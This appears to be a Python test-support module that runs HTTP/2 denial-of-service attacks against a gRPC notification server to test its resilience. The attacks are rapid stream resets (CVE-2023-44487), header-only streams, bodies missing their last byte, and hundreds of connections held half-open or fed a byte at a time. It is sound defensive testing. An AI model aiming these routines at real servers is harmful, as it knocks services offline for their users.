"""What can be done to a server without a token. Each attack is bounded in number; time is its caller's."""

import asyncio
from collections.abc import Callable, Coroutine, Iterable
from contextlib import suppress
from functools import partial
from itertools import cycle, islice
from typing import Any, Final

from tests.support.http2 import frames
from tests.support.http2.call import framed, request_headers
from tests.support.http2.stranger import Stranger, Target

SEND: Final = "/unisono.v1.NotificationService/SendNotification"

#: What is asked for where a request is reset at once: what needs a token, what needs none, what is not there.
PATHS: Final = (SEND, "/grpc.health.v1.Health/Check", "/unisono.v1.Nowhere/Nothing")

#: Called once the attack is in place.
Begun = Callable[[], None]

#: Streams on one connection.
STREAMS: Final = 300

#: Connections that are held, where they come once and where they come back.
FEW: Final = 100
MANY: Final = 400

#: What a small request announces, in bytes.
SMALL: Final = 64 * 1024

#: How many streams are written at a time.
_CONCURRENCY: Final = 100

#: Until an attack counts as being in place, though it could not say all of it, in seconds.
_SOON_SECONDS: Final = 10.0

#: Between two tries, or two bytes, in seconds.
_AGAIN: Final = 0.25


async def resets(target: Target, begun: Begun) -> None:
    """Begin requests and reset them at once (CVE-2023-44487), on one connection after another."""
    await _again(partial(_reset, target, begun), begun)


async def _reset(target: Target, begun: Begun) -> None:
    stranger = await Stranger.open(target)
    while not stranger.closed.is_set():
        await _reset_some(stranger)
        begun()


async def _reset_some(stranger: Stranger) -> None:
    for path in islice(cycle(PATHS), _CONCURRENCY):
        stream_id = stranger.ask(path)
        stranger.say(frames.frame(frames.DATA, 0, stream_id, framed(b"")))
        stranger.say(frames.given_up(stream_id))
    await stranger.drained()


async def headers(target: Target, begun: Begun) -> None:
    """Headers of requests on one connection, and nothing else; over when the server has ended them all."""
    stranger = await Stranger.open(target)
    streams = [stranger.ask(SEND) for _ in range(STREAMS)]
    begun()
    await _until_ended(stranger, streams)


async def small_bodies(target: Target, begun: Begun) -> None:
    """Requests of 64 KiB that lack their last byte; over when the server has ended them all."""
    await unfinished(target, begun, SEND, SMALL)


async def unfinished(target: Target, begun: Begun, path: str, size: int, token: str = "") -> None:
    """Requests of one size on one connection, which all lack their last byte."""
    stranger = await Stranger.open(target)
    body = framed(bytes(size))[:-1]
    streams = [stranger.ask(path, token) for _ in range(STREAMS)]
    pouring = [asyncio.create_task(stranger.pour(stream_id, body)) for stream_id in streams]
    await asyncio.wait(pouring, timeout=_SOON_SECONDS)
    begun()
    await _until_ended(stranger, streams)


async def _until_ended(stranger: Stranger, streams: Iterable[int]) -> None:
    with suppress(ConnectionError):
        for stream_id in streams:
            await stranger.until_ended(stream_id)


async def held(target: Target, begun: Begun) -> None:
    """A hundred connections that say nothing or halves; over when the server has closed them all."""
    openings = islice(cycle(_openings()), FEW)
    await asyncio.gather(*(_hold(target, opening, begun) for opening in openings))


async def held_again(target: Target, begun: Begun) -> None:
    """Four hundred connections that say nothing, halves, or a byte at a time, and come back for ever."""
    kinds = [*(partial(_hold, target, opening, begun) for opening in _openings()), partial(_drip, target)]
    await asyncio.gather(*(_again(kind, begun) for kind in islice(cycle(kinds), MANY)))


def _openings() -> list[bytes]:
    """What somebody says who then holds the connection."""
    block = request_headers(SEND, "unisono.test", "")
    whole = frames.frame(frames.HEADERS, frames.END_HEADERS, 1, block)
    return [
        b"",
        frames.PREFACE[: len(frames.PREFACE) // 2],
        frames.greeting(),
        frames.greeting() + whole[: len(whole) // 2],
        frames.greeting() + frames.frame(frames.HEADERS, 0, 1, block[: len(block) // 2]),
    ]


async def _hold(target: Target, opening: bytes, begun: Begun) -> None:
    stranger = await Stranger.open(target, greets=False)
    stranger.say(opening)
    begun()
    await stranger.closed.wait()


async def _drip(target: Target) -> None:
    stranger = await Stranger.open(target)
    stream_id = stranger.ask(SEND)
    while stream_id not in stranger.ended and not stranger.closed.is_set():
        await stranger.pour(stream_id, b"\0")
        await asyncio.sleep(_AGAIN)
    stranger.abort()


async def _again(attack: Callable[[], Coroutine[Any, Any, None]], begun: Begun) -> None:
    """For ever; to be turned away is to have begun, too."""
    while True:
        with suppress(OSError):
            await attack()
        begun()
        await asyncio.sleep(_AGAIN)
